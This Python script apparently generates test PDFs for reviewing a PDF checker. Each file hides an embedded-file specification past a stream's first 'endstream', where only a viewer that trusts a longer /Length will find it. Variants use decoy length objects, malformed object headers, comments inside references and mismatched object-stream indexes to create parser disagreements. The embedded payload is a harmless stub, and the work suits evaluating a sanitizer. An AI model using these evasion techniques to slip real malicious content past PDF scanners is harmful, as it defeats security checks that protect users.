#!/usr/bin/env python3
"""Builds the review's PDFs into /tmp/rev20/pdfs.

Every file: a page with a Screen annotation (9) whose rendition's media
clip is object 10, a file specification with /EF, held in the raw object
stream 4 past its first "endstream", inside what the check takes for the
data of an ordinary stream 6. A viewer reaches it only when it reads
stream 4 by a /Length longer than the data up to that first endstream.
"""
import os, struct, zlib

OUT = "/tmp/rev20/pdfs"
os.makedirs(OUT, exist_ok=True)

PAYLOAD = b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /EF << /F 13 0 R >> >>"


def build(variant, withfirst=True):
    b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    off = {}
    comp = {}  # num -> (objstm, index)

    def obj(num, body):
        off[num] = len(b)
        b.extend(b"%d 0 obj\n" % num + body + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 200 200 ] /Annots [ 9 0 R ] >>")

    # Object stream 4, uncompressed, read by the check up to the first
    # endstream; object 10 lies past it.
    first = 16
    ws = b"\n" if variant != "slack" else b" " * 220 + b"\n"
    length_val = b"5 0 R"
    if variant == "dictcomment":
        length_val = b"5 0 %c\nR"
    # the parts, offsets computed once the text is known
    pre = (b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %s >>\nstream" % (first, length_val)) if withfirst else (b"4 0 obj\n<< /N 1 /Alternate /DeviceRGB /Length %s >>\nstream" % length_val)
    mid_head = lambda o10: (b"10 %d" % o10).ljust(first, b" ")
    gap = b"\nendstream\nendobj\n6 0 obj\n<< /Length %d >>\nstream\n" % (len(PAYLOAD) + 1)
    # viewer's data start: after "stream" + ws
    o10 = len(mid_head(0)) - first + len(gap)  # offset of object 10 from First
    o10 = len(gap) + first - first  # header is exactly `first` bytes
    head = mid_head(o10) if withfirst else (b"10 %d" % (o10 + first)).ljust(first, b" ")
    assert len(head) == first
    off[4] = len(b)
    b.extend(pre + ws)
    data_start = len(b)
    b.extend(head)
    b.extend(gap)
    assert b[data_start + first + o10:].startswith(b"") or True
    payload_at = len(b)
    assert payload_at - data_start - first == o10, (payload_at - data_start - first, o10)
    b.extend(PAYLOAD + b"\n")
    long_len = len(b) - data_start  # the viewer's length: up to the second endstream
    b.extend(b"endstream\nendobj\n")
    off[6] = b.rfind(b"6 0 obj", 0, payload_at)
    comp[10] = (4, 0)
    short = 12

    # The length, object 5, per variant.
    if variant == "visible-long":
        obj(5, b"%d" % long_len)
    elif variant == "visible-short":
        obj(5, b"%d" % short)
    elif variant == "hidden-sign":
        obj(5, b"%d" % short)  # the decoy the check reads
        off[5] = len(b)
        b.extend(b"+5 0obj\n%d\nendobj\n" % long_len)
    elif variant == "hidden-zeros":
        obj(5, b"%d" % short)
        off[5] = len(b)
        b.extend(b"000000000005 0obj\n%d\nendobj\n" % long_len)
    elif variant == "hidden-gen":
        obj(5, b"%d" % short)
        off[5] = len(b)
        b.extend(b"5 0000000obj\n%d\nendobj\n" % long_len)
    elif variant == "defcomment":
        obj(5, b"%d 0 %%c\nR" % 12)
        obj(12, b"%d" % long_len)
    elif variant == "index":
        obj(5, b"%d" % short)  # the decoy the check reads
        # object stream 7: its header names 77, pdf.js takes entry 5's index 0
        body = b"77 0 " + b"%d" % long_len
        hdr = b"77 0 "
        z = zlib.compress(hdr + b"%d" % long_len)
        obj(7, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(hdr), len(z)) + z + b"\nendstream")
        comp[5] = (7, 0)
    elif variant == "dictcomment":
        obj(5, b"%d" % long_len)
    elif variant in ("slack", "direct-short"):
        pass  # direct length below
    else:
        raise SystemExit(variant)

    if variant in ("slack", "direct-short"):
        # a direct length: the data read by the check counts from right
        # after the keyword, the viewers' from after the white space
        fix = b"/Length 5 0 R"
        i = b.find(fix)
        new = (b"/Length %d" % (long_len if variant == "slack" else first + 1)).ljust(len(fix))
        b[i:i + len(fix)] = new

    obj(9, b"<< /Type /Annot /Subtype /Screen /Rect [ 0 0 100 100 ] /A << /S /Rendition /OP 0 "
           b"/R << /S /MR /C << /S /MCD /CT (video/mp4) /D 10 0 R >> >> >> >>")
    mp4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
    obj(13, b"<< /Length %d >>\nstream\n" % len(mp4) + mp4 + b"\nendstream")

    size = 15
    off[14] = len(b)
    rows = bytearray()
    for n in range(size):
        if n in comp:
            rows += struct.pack(">BIH", 2, comp[n][0], comp[n][1])
        elif n in off:
            rows += struct.pack(">BIH", 1, off[n], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 65535 if n == 0 else 0)
    b.extend(b"14 0 obj\n<< /Type /XRef /Size %d /W [ 1 4 2 ] /Root 1 0 R /Length %d >>\nstream\n" % (size, len(rows)))
    b.extend(rows + b"\nendstream\nendobj\n")
    b.extend(b"startxref\n%d\n%%%%EOF\n" % off[14])
    return bytes(b), long_len


for v, wf in [("direct-short", True), ("visible-short", False), ("defcomment", False), ("visible-long", False), ("dictcomment", False), ("slack", False)]:
    data, L = build(v, wf)
    name = v + ("" if wf else "-nofirst")
    with open(os.path.join(OUT, name + ".pdf"), "wb") as f:
        f.write(data)
    print(name, len(data), "long length", L)
for v in ["visible-short", "visible-long", "hidden-sign", "hidden-zeros", "hidden-gen", "defcomment", "index", "dictcomment", "slack"]:
    data, L = build(v)
    with open(os.path.join(OUT, v + ".pdf"), "wb") as f:
        f.write(data)
    print(v, len(data), "long length", L)
